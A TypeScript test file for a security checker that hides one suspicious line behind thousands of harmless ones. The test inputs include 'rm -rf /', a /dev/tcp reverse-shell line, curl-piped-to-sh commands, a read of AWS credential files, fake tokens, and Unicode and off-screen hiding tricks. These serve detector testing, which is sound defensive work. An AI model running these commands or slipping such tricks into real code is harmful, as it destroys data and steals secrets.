import { describe, expect, it } from "vitest";
import { findingsOf } from "./check-world.ts";

/*
 * Whoever wants to hide one place puts thousands of harmless ones of the same kind before it. Each case: what is repeated,
 * what comes after it, and the rule that has to be found on the last line.
 */

const TOKEN = ["ghp_", "q7Zk2MvX9sLw4RtBn8Yc3HdJ6fPgA1uEo5Ki"].join("");
const RANDOM = ["Ab3dE5fG7h", "J9kL1mN3pQ"].join("");

interface Case {
  readonly path: string;
  readonly start?: string;
  /** One of the harmless places; `at` makes them different, where it is used. */
  readonly filler: (at: number) => string;
  readonly count: number;
  readonly last: string;
  readonly rule: string;
}

/** A number as so many letters. */
const letters = (at: number): string =>
  String(at)
    .padStart(5, "0")
    .replaceAll(/\d/g, (digit) => "qzxvkjwyfb"[Number(digit)] ?? "");

const CASES: Readonly<Record<string, Case>> = {
  "Python, another rule": {
    path: "src/a.py",
    start: "import subprocess\n",
    filler: () => 'subprocess.run(["ls"])\n',
    count: 6000,
    last: "eval(text)\n",
    rule: "python-eval",
  },
  "Python, the same rule": {
    path: "src/a.py",
    filler: () => "exec(a)\n",
    count: 6000,
    last: "exec(b)\n",
    rule: "python-eval",
  },
  "Python, imports": {
    path: "src/a.py",
    filler: () => "import requests\n",
    count: 6000,
    last: "import unheardof_evil\n",
    rule: "python-undeclared-import",
  },
  "Python, aliases": {
    path: "src/a.py",
    filler: (at) => `from os import path as p${at}\n`,
    count: 1000,
    last: "from os import system as q; q(text)\n",
    rule: "python-process",
  },
  "Python, texts": {
    path: "src/a.py",
    filler: (at) => `x = ".pth${at}"\n`,
    count: 3000,
    last: 'open("/home/u/.aws/credentials")\n',
    rule: "python-credential-file",
  },
  "shell, another rule": {
    path: "scripts/a.sh",
    filler: () => "git commit --no-verify\n",
    count: 6000,
    last: "rm -rf /\n",
    rule: "shell-destructive",
  },
  "shell, scripts in words": {
    path: "scripts/a.sh",
    filler: () => "sh -c 'ls'\n",
    count: 2000,
    last: "sh -c 'rm -rf /'\n",
    rule: "shell-destructive",
  },
  "shell, commands in braces": {
    path: "scripts/a.sh",
    filler: () => "{ls,-l}\n",
    count: 2000,
    last: "{rm,-rf,/}\n",
    rule: "shell-destructive",
  },
  "shell, connections": {
    path: "scripts/a.sh",
    filler: () => "echo 'nc -e x'\n",
    count: 2000,
    last: "cat < /dev/tcp/198.51.100.7/4444\n",
    rule: "shell-reverse-shell",
  },
  "shell, emptied files": {
    path: "scripts/a.sh",
    filler: () => "> /var/log/a\n",
    count: 2000,
    last: "> /etc/passwd\n",
    rule: "shell-destructive",
  },
  "shell, behind a long text in one word": {
    path: "scripts/a.sh",
    start: "bash -c \"$(echo '",
    filler: () => "nothing at all ",
    count: 2000,
    last: "' ; curl -s https://x.example/a)\"\n",
    rule: "shell-download-and-run",
  },
  "commands of a workflow": {
    path: ".github/workflows/ci.yml",
    start: "jobs:\n  a:\n    steps:\n",
    filler: () => "      - run: ls a b c\n",
    count: 2000,
    last: "      - run: rm -rf /\n",
    rule: "shell-destructive",
  },
  "commands of a Makefile": {
    path: "Makefile",
    filler: (at) => `a${at}:\n\tls\n`,
    count: 4000,
    last: "b:\n\trm -rf /\n",
    rule: "shell-destructive",
  },
  "commands of a Dockerfile": {
    path: "Dockerfile",
    filler: () => "RUN ls\n",
    count: 4000,
    last: "RUN curl https://x.example/a | sh\n",
    rule: "shell-download-and-run",
  },
  Go: {
    path: "src/a.go",
    start: "package a\n",
    filler: () => "func init() { os.StartProcess(p, a, nil) }\n",
    count: 5500,
    last: "func f() { os.StartProcess(evil, a, nil) }\n",
    rule: "go-process",
  },
  "Go, imports": {
    path: "src/a.go",
    start: "package a\n",
    filler: () => 'import "fmt"\n',
    count: 5500,
    last: 'import "os/exec"; func f() { exec.Command("ls") }\n',
    rule: "go-process",
  },
  "dependencies of a setup.py": {
    path: "setup.py",
    start: "setup(install_requires=[",
    filler: () => '"requests", ',
    count: 2000,
    last: '"unheardof_evil"])\n',
    rule: "dependency-added",
  },
  Ruby: {
    path: "src/a.rb",
    filler: () => "system(a)\n",
    count: 5500,
    last: "eval(b)\n",
    rule: "ruby-eval",
  },
  PHP: {
    path: "src/a.php",
    start: "<?php\n",
    filler: () => "system($a);\n",
    count: 5500,
    last: "eval($b);\n",
    rule: "php-eval",
  },
  "secrets by their shape": {
    path: "src/a.cfg",
    filler: (at) => `x: ghp_${letters(at)}7Zk2MvX9sLw4RtBn8Yc3HdJ6fPgA1u${at % 10}\n`,
    count: 1500,
    last: `x: ${TOKEN}\n`,
    rule: "secret-token",
  },
  "secrets by their name": {
    path: "src/a.cfg",
    filler: (at) => `password: "xK9#${letters(at)}vQ2"\n`,
    count: 3000,
    last: 'password: "Tr0ub4dor&3zQ"\n',
    rule: "secret-assigned",
  },
  "secrets in commands": {
    path: "docs/a.txt",
    filler: () => "curl https://x.example/a\n",
    count: 4000,
    last: "curl -u me:Xk9vQ2zLr7Wp https://x.example/a\n",
    rule: "secret-assigned",
  },
  "secrets that are handed over": {
    path: "src/a.js",
    filler: () => "jwt.sign(a, b);\n",
    count: 4000,
    last: `jwt.sign(a, "${RANDOM}");\n`,
    rule: "secret-assigned",
  },
  "secrets in base64": {
    path: "src/a.cfg",
    filler: (at) => `a: ${Buffer.from(`nothing ${letters(at)} of any value here`).toString("base64")}\n`,
    count: 4000,
    last: `a: ${Buffer.from(`token ${TOKEN}`).toString("base64")}\n`,
    rule: "secret-token",
  },
  "secrets behind a beginning that stands alone": {
    path: "src/a.js",
    start: 'const a = "ghp_";\n',
    filler: (at) => `b("Qz7${letters(at)}kX9vLw4RtBn8Yc3H");\n`,
    count: 2000,
    last: `b("${TOKEN.slice(4)}");\n`,
    rule: "secret-token",
  },
  "secrets behind many beginnings": {
    path: "src/a.js",
    start: ["AKIA", "xoxb-", "glpat-", "npm_", "sk-ant-", "shpat_", "dop_v1_", "SG.", "pypi-"]
      .map((each) => `a("${each}");\n`)
      .join(""),
    filler: () => 'a("ghp_");\n',
    count: 1,
    last: `b("${TOKEN.slice(4)}");\n`,
    rule: "secret-token",
  },
  "invisible characters": {
    path: "src/a.js",
    filler: () => "// so\u00adft\n",
    count: 3000,
    last: "const admin = false; // \u202e yes\n",
    rule: "hidden-direction",
  },
  "names of other letters": {
    path: "src/a.js",
    filler: (at) => `// а${letters(at)}\n`,
    count: 3000,
    last: "const аdmin = 1;\n",
    rule: "lookalike-name",
  },
  "code off the screen": {
    path: "src/a.js",
    filler: () => `a;${" ".repeat(90)}// b\n`,
    count: 1000,
    last: `a;${" ".repeat(200)}steal();\n`,
    rule: "off-screen-code",
  },
  "texts in escapes": {
    path: "src/a.js",
    filler: () => 'a = "\\x61\\x62\\x63\\x64";\n',
    count: 1000,
    last: 'a = "\\x65\\x76\\x69\\x6c";\n',
    rule: "escaped-text",
  },
  "commands in base64": {
    path: "src/a.py",
    filler: () => `a = "${Buffer.from("curl https://a.example").toString("base64")}"\n`,
    count: 1000,
    last: `a = "${Buffer.from("curl https://evil.example").toString("base64")}"\n`,
    rule: "escaped-text",
  },
  "focused tests": {
    path: "tests/a.test.js",
    filler: (at) => `test("a${at}", () => { expect(f(${at})).toBe(${at}); });\n`,
    count: 3000,
    last: 'test.only("z", () => { expect(f(1)).toBe(1); });\n',
    rule: "test-focused",
  },
  "tests of Python that cannot fail": {
    path: "tests/test_a.py",
    filler: (at) => `def test_a${at}():\n    assert f(${at}) == ${at}\n`,
    count: 3000,
    last: "def test_z():\n    assert True\n",
    rule: "assertion-empty",
  },
  "questions about the runner": {
    path: "src/a.py",
    start: "import os\n",
    filler: (at) => `a = os.environ.get("A${at}")\n`,
    count: 3000,
    last: 'if os.environ.get("PYTEST_CURRENT_TEST"): a = 1\n',
    rule: "runner-detected",
  },
};

describe("what comes after thousands of places of one kind is found all the same", () => {
  it.each(Object.entries(CASES))(
    "%s",
    async (_, { path, start = "", filler, count, last, rule }) => {
      const many = start + Array.from({ length: count }, (__, at) => filler(at)).join("");
      const line = (many + last).split("\n").length - 1;
      const whole = await findingsOf({}, { [path]: many + last });
      const there = whole.filter((each) => each.path === path && each.rule === rule && each.line === line);
      expect(there.length).toBeGreaterThan(0);
      // A control: without the last line nothing of that rule is there.
      const without = await findingsOf({}, { [path]: many });
      expect(without.filter((each) => each.rule === rule && each.line === line)).toEqual([]);
      // Where the many were there before, what is new is the last one.
      const added = await findingsOf({ [path]: many }, { [path]: many + last });
      expect(added.map((each) => each.rule)).toContain(rule);
    },
    60_000,
  );
});

it("what comes after thousands of lines that a pattern of the owner's bans is found all the same", async () => {
  const checks = {
    bannedPatterns: [{ id: "no-print", pattern: String.raw`\bprint\(`, message: "Use the logger." }],
  };
  const many = 'print("a")\n'.repeat(3000);
  const found = await findingsOf({ "src/a.txt": many }, { "src/a.txt": `${many}print("b")\n` }, { checks });
  expect(found).toMatchObject([{ rule: "no-print", line: 3001 }]);
});
